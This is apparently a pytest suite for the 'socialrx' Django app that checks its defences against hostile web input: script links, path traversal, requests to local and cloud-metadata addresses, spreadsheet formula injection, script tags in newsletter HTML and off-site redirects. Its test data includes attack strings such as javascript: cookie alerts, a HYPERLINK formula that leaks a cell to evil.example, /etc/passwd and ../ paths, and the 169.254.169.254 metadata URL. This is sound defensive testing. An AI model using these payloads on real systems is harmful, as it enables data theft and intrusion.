"""Web input hardening (issue 14, part A): links, media paths, fetches, charts, CSV exports, newsletter HTML,
redirects. Each test states what an attacker tried and what socialrx does instead."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from django.utils.timezone import now

from socialrx.connectors.errors import RejectedContent
from socialrx.core.relationships.contacts_csv import ContactRow
from socialrx.server.actions import ActionError
from socialrx.server.actions.listening import (
    add_manual_mention,
    create_source,
    ensure_default_queries,
    import_mentions_csv,
    poll_source,
    save_query,
)
from socialrx.server.actions.relationships import (
    InteractionInput,
    log_interaction,
    log_media_mention,
    save_contact,
)
from socialrx.server.actions.repurpose import RepurposeInput, repurpose
from socialrx.server.lib.publishing import publish_request
from socialrx.server.models import (
    Contact,
    Interaction,
    JobStatus,
    ListeningSource,
    Post,
    PublishAccount,
    PublishJob,
    RepurposeSource,
    SourceKind,
    StoredMention,
)
from socialrx.server.worker.publishing import publish_due_jobs
from tests.connectors.fakes import FakeResponse, FakeServer, RecordedRequest
from tests.server.test_worker_publishing import make_approved_post, sandbox_account, schedule

pytestmark = pytest.mark.django_db

SCRIPT_LINK = "javascript:alert(document.cookie)"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def listener(make_user, seed_strategy):
    user = make_user("community_manager", username="community")
    ensure_default_queries(user)
    return user


@pytest.fixture
def creator(make_user, seed_strategy):
    return make_user("content_creator", username="casey")


def post_json(client, url: str, body: dict):
    return client.post(url, data=json.dumps(body), content_type="application/json")


# Links: only http and https, everywhere


def test_manual_mention_with_a_script_link_is_refused(listener):
    """A manual mention whose URL is javascript: is refused naming the field; nothing is stored."""
    with pytest.raises(ActionError, match="^url: "):
        add_manual_mention(listener, text="Great talk on AI triage", url=SCRIPT_LINK)
    assert not StoredMention.objects.exists()


def test_csv_import_with_a_script_link_names_the_row_and_imports_nothing(listener):
    """A CSV row with a javascript: URL is reported by row and column and the whole file is refused."""
    content = ("text,published,link\nfine,2024-06-01T09:00:00Z,https://a.example/1\n"
               f"bad,2024-06-01T10:00:00Z,{SCRIPT_LINK}\n")
    with pytest.raises(ActionError, match=r"row 3: column 'link': .*not an http"):
        import_mentions_csv(listener, source_name="Export", content=content,
                            mapping={"text": "text", "published": "published", "url": "link"})
    assert not StoredMention.objects.exists()


def test_feed_items_with_script_links_are_stored_without_a_link(listener):
    """A feed item linking to javascript: is stored with its text and no link, so nothing clickable is shown."""
    rss = (b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item><guid>g1</guid>'
           b"<title>Healthcare AI triage</title><link>javascript:alert(1)</link><description>AI triage news</description>"
           b"</item></channel></rss>")

    class Feed(FakeServer):
        def route(self, request: RecordedRequest) -> FakeResponse:
            return FakeResponse(200, rss)

    with Feed() as server:
        source = create_source(listener, name="Feed", kind=SourceKind.RSS, url=f"{server.url}/feed.xml")
        poll_source(source)
    assert list(StoredMention.objects.values_list("url", flat=True)) == [""]


def test_stored_script_links_are_never_rendered_as_links(listener, client):
    """A javascript: URL already in the database (from before this fix) is shown as no link at all."""
    add_manual_mention(listener, text="Healthcare AI news", url="https://news.example/a")
    StoredMention.objects.update(url=SCRIPT_LINK)
    client.force_login(listener)
    body = client.get(reverse("listening-mentions") + "?days=3650").content.decode()
    assert "Healthcare AI news" in body and "javascript:" not in body


def test_api_post_link_url_must_be_http(manager_api, seed_strategy):
    """POST /api/posts with a javascript: link_url answers 400 naming the channel and field; no post is made."""
    body = {"title": "Flu clinics", "variants": {"linkedin": {"text": "Flu clinics open.", "link_url": SCRIPT_LINK}}}
    response = post_json(manager_api, "/api/posts", body)
    assert response.status_code == 400 and response.json()["detail"].startswith("linkedin: link_url: ")
    assert not Post.objects.exists()


def test_repurpose_url_must_be_http(creator, api_token_for):
    """The repurpose link (put into every draft) must be http(s), by API and by action; nothing is saved."""
    with pytest.raises(ActionError, match="^url: "):
        repurpose(creator, RepurposeInput(text="# Title\n\n" + "Words here. " * 40, url=SCRIPT_LINK))
    response = post_json(api_token_for(creator)[0], "/api/repurpose", {"text": "# T\n\nWords.", "url": SCRIPT_LINK})
    assert response.status_code == 400 and "url: " in response.json()["detail"]
    assert not RepurposeSource.objects.exists()


def test_relationship_links_must_be_http(make_user, seed_strategy):
    """Interaction and media-mention links are refused unless http(s)."""
    community = make_user("community_manager", username="community")
    contact = save_contact(community, ContactRow(name="Dr Ana Ruiz"))
    data = InteractionInput(kind="comment", summary="Replied", happened_at=now() - timedelta(hours=1), url=SCRIPT_LINK)
    with pytest.raises(ActionError, match="^url: "):
        log_interaction(community, contact, data)
    with pytest.raises(ActionError, match="^url: "):
        log_media_mention(community, outlet="Health News", title="AI", published_on=now().date(), url=SCRIPT_LINK)
    assert not Interaction.objects.exists()


def test_live_url_and_source_addresses_must_be_http(listener):
    """A manual task's live URL and a listening source's address are refused unless http(s)."""
    from socialrx.server.actions.publishing import check_live_url

    with pytest.raises(ActionError, match="live URL"):
        check_live_url("linkedin", SCRIPT_LINK)
    with pytest.raises(ActionError, match="^url: "):
        create_source(listener, name="Feed", kind=SourceKind.RSS, url="file:///etc/passwd")
    with pytest.raises(ActionError, match="^url: "):
        create_source(listener, name="X", kind=SourceKind.X_SEARCH, url="gopher://internal", search_query="ai")
    assert not ListeningSource.objects.filter(name__in=["Feed", "X"]).exists()


# Media: by upload id under MEDIA_ROOT, never a client path


@pytest.mark.parametrize("path", ["../socialrx.sqlite3", "/etc/passwd", "uploads/../../socialrx.sqlite3",
                                  "uploads/2026/01/notours.png"])
def test_api_media_paths_outside_uploads_are_refused(manager_api, seed_strategy, path):
    """A media path that is not one of our uploads is refused with its channel and item named; nothing is saved."""
    media = [{"name": "chart.png", "path": path, "alt_text": "A chart"}]
    body = {"title": "Flu", "variants": {"x": {"text": "Flu clinics open.", "media": media}}}
    response = post_json(manager_api, "/api/posts", body)
    assert response.status_code == 400, response.content
    assert response.json()["detail"].startswith("x: media 1 (chart.png): ")
    assert not Post.objects.exists()


def test_publishing_never_reads_a_stored_path_outside_uploads(make_user):
    """A job whose approved media points outside MEDIA_ROOT/uploads fails instead of uploading that file."""
    author = make_user("content_creator", username="author")
    sandbox_account("x")
    post = make_approved_post(author, {"x": {"text": "Flu", "media": [
        {"name": "db", "path": "../socialrx.sqlite3", "kind": "image", "alt_text": "x"}]}})
    job = schedule(post)[0]
    with pytest.raises(RejectedContent, match=r"media 1 \(db\) is not a file uploaded to socialrx"):
        publish_request(job, job.account or PublishAccount.objects.get(network="x"))
    publish_due_jobs()
    job.refresh_from_db()
    assert job.status == JobStatus.FAILED and "not a file uploaded" in job.last_error


# Outbound fetches: no private addresses unless an administrator allows them


def test_polling_a_feed_on_the_local_network_is_refused(listener, settings):
    """With no allowance a feed on loopback is never requested; the source shows the refusal."""
    settings.SOCIALRX_FETCH_ALLOW_NETWORKS = ""

    class Feed(FakeServer):
        def route(self, request: RecordedRequest) -> FakeResponse:
            return FakeResponse(200, b"<rss/>")

    with Feed() as server:
        source = create_source(listener, name="Internal", kind=SourceKind.RSS, url=f"{server.url}/feed.xml")
        poll_source(source)
        assert server.requests == []
    source = ListeningSource.objects.get(pk=source.pk)
    assert source.error_count == 1 and "refused" in source.last_error


def test_x_search_host_override_on_the_local_network_never_gets_the_token(listener, settings):
    """An X search source whose API host is on loopback is refused before any request: the bearer token stays home."""
    settings.SOCIALRX_FETCH_ALLOW_NETWORKS = ""
    settings.SOCIALRX_X_BEARER_TOKEN = "app-token-secret"

    class Api(FakeServer):
        def route(self, request: RecordedRequest) -> FakeResponse:
            return FakeResponse(200, b'{"data": [], "meta": {}}')

    with Api() as server:
        source = create_source(listener, name="X internal", kind=SourceKind.X_SEARCH, url=server.url, search_query="ai")
        poll_source(source)
        assert server.requests == []
        settings.SOCIALRX_FETCH_ALLOW_NETWORKS = "127.0.0.1/32"  # an administrator allows the proxy
        source = ListeningSource.objects.get(pk=source.pk)
        poll_source(source)
        assert len(server.requests) == 1
    source = ListeningSource.objects.get(pk=source.pk)
    assert source.error_count == 0


def test_repurpose_fetch_of_a_local_address_is_refused(creator, settings):
    """Fetching an article from the metadata address or loopback is refused before any request."""
    settings.SOCIALRX_FETCH_ALLOW_NETWORKS = ""
    for url in ("http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:9/x"):
        with pytest.raises(ActionError, match="refused"):
            repurpose(creator, RepurposeInput(url=url, fetch=True))
    assert not RepurposeSource.objects.exists()


# Charts: names with dollar signs are text, not maths


def test_dollar_signs_in_names_do_not_break_charts(listener, viewer_client):
    """A query called 'Ad spend $^_$ Q3' draws its chart (matplotlib would read $…$ as maths and fail)."""
    query = save_query(listener, key="money", name="Ad spend $^_$ Q3", text="AI")
    response = viewer_client.get(reverse("listening") + f"?query={query.pk}")
    assert response.status_code == 200
    from socialrx.server.lib.analytics_charts import monthly_chart, spend_chart

    svg = monthly_chart(r"Spend $\frac$", [now().date()], [3.0], target=2.0, unit="money")
    assert r"Spend $\frac$" in svg
    assert "$^_$" in spend_chart(["x$^_$"], [1.0], [2.0], [3.0])


# CSV exports: no formulas


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_contact_export_neutralises_formulas_and_imports_back(make_user, seed_strategy):
    """A contact named like a formula is exported with a leading apostrophe; re-importing keeps the name."""
    from socialrx.server.actions.relationships import import_contacts

    community = make_user("community_manager", username="community")
    save_contact(community, ContactRow(name=FORMULA, notes="@SUM(1+1)"))
    client = Client()
    client.force_login(community)
    exported = client.get(reverse("relationships-export")).content.decode()
    rows = _cells(exported)
    assert rows[1][0] == "'" + FORMULA and rows[1][-1] == "'@SUM(1+1)"
    import_contacts(community, exported)
    assert list(Contact.objects.values_list("name", flat=True)) == [FORMULA]


def test_audit_export_neutralises_formulas(make_user, manager_client, seed_strategy, manager):
    """An object whose name is a formula appears in the audit CSV as text."""
    from socialrx.server.actions.posts import PostInput, create_post

    create_post(manager, PostInput(title=FORMULA, variants={"linkedin": {"text": "Hello"}}))
    response = manager_client.get(reverse("audit-csv"))
    text = b"".join(response.streaming_content).decode()
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in _cells(text) for cell in row if cell), text


# Newsletter HTML: sanitised before it is sent


def test_newsletter_html_is_sanitised(make_user):
    """Markdown with raw <script>, event handlers and javascript: links is sent without any of them."""
    author = make_user("content_creator", username="author")
    sandbox_account("email")
    text = ('Hello <script>alert(1)</script> <img src="https://a.example/x.png" onerror="alert(2)">\n\n'
            '<a href="javascript:alert(3)">click</a> and [site](https://clinic.example/flu)')
    post = make_approved_post(author, {"email": {"text": text, "title": "Flu news"}})
    job = schedule(post)[0]
    html = publish_request(job, job.account).html
    assert "<script" not in html and "onerror" not in html and "javascript:" not in html and ">click</a>" in html
    assert 'href="https://clinic.example/flu"' in html and "<img" in html


# Redirects: a next address must stay on this site


@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/", "javascript:alert(1)"])
def test_next_addresses_off_the_site_are_ignored(make_user, target):
    """After publish-now or retry, a next address on another site is replaced by the publishing page."""
    manager = make_user("social_media_manager", username="boss")
    client = Client()
    client.force_login(manager)
    sandbox_account("x")
    post = make_approved_post(manager, {"x": {"text": "Flu"}}, due=now() + timedelta(days=1))
    response = client.post(reverse("publishing-publish-now", args=[post.pk]), {"next": target})
    assert response.status_code == 302 and response["Location"] == reverse("publishing")
    job = PublishJob.objects.first()
    if job is not None:
        response = client.post(reverse("publishing-retry", args=[job.pk]), {"next": target})
        assert response["Location"] == reverse("publishing")
    response = client.post(reverse("publishing-publish-now", args=[post.pk]), {"next": "/calendar/"})
    assert response["Location"] == "/calendar/"


def test_settings_default_to_refusing_private_fetches():
    """The tests allow only loopback; the shipped default allows nothing private."""
    from socialrx.settings import base

    assert base.SOCIALRX_FETCH_ALLOW_PRIVATE is False and base.SOCIALRX_FETCH_ALLOW_NETWORKS == ""
    assert settings.SOCIALRX_FETCH_ALLOW_NETWORKS == "127.0.0.1/32"


def test_sign_in_ignores_a_next_address_off_the_site(make_user):
    """Signing in with ?next= pointing elsewhere lands on the home page instead."""
    from tests.conftest import PASSWORD

    make_user("viewer", username="robin")
    response = Client().post("/login/?next=https://evil.example/", {"username": "robin", "password": PASSWORD,
                                                                     "next": "https://evil.example/"})
    assert response.status_code == 302 and response["Location"] == reverse("home")
